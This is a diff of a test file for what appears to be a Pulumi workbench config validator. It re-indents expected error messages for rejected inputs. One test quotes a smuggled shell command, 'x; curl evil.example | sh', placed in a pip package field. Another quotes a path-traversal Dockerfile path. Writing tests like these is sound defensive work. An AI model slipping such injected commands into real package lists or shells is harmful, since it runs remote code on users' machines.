@@ -42,7 +42,7 @@ test("a package name with shell characters exits 2 with its key path", () => {
   expect(r.stdout).toBe("");
   expect(r.stderr).toBe(
     `Invalid stack config (${r.file}):\n` +
-    'workbench.apps[0].build.packages[1]: "x; curl evil.example | sh" is not a pip requirement this workbench accepts; use a name with optional extras and version, e.g. "xgboost==2.1.1" or "transformers[torch]>=4.44" (no spaces, URLs, markers or shell characters)\n',
+      'workbench.apps[0].build.packages[1]: "x; curl evil.example | sh" is not a pip requirement this workbench accepts; use a name with optional extras and version, e.g. "xgboost==2.1.1" or "transformers[torch]>=4.44" (no spaces, URLs, markers or shell characters)\n',
   );
 });
 
@@ -55,8 +55,8 @@ test("a Dockerfile outside the project, and image with build, exit 2 with both k
   expect(r.stdout).toBe("");
   expect(r.stderr).toBe(
     `Invalid stack config (${r.file}):\n` +
-    'workbench.apps[0].build.dockerfile: "../../etc/Dockerfile" leaves the project directory; give a path inside it, relative to Pulumi.yaml\n' +
-    "workbench.apps[1].build: conflicts with workbench.apps[1].image: an app either runs a published image or builds one; remove image or build\n",
+      'workbench.apps[0].build.dockerfile: "../../etc/Dockerfile" leaves the project directory; give a path inside it, relative to Pulumi.yaml\n' +
+      "workbench.apps[1].build: conflicts with workbench.apps[1].image: an app either runs a published image or builds one; remove image or build\n",
   );
 });
 
@@ -66,7 +66,7 @@ test("a Dockerfile that is not in the project exits 2 before anything is registe
   expect(r.stdout).toBe("");
   expect(r.stderr).toBe(
     `Invalid stack config (${r.file}):\n` +
-    `workbench.apps[0].build.dockerfile: "docker/lab.Dockerfile" does not exist in the project directory ${ROOT}; check the path (relative to Pulumi.yaml)\n`,
+      `workbench.apps[0].build.dockerfile: "docker/lab.Dockerfile" does not exist in the project directory ${ROOT}; check the path (relative to Pulumi.yaml)\n`,
   );
 });
 
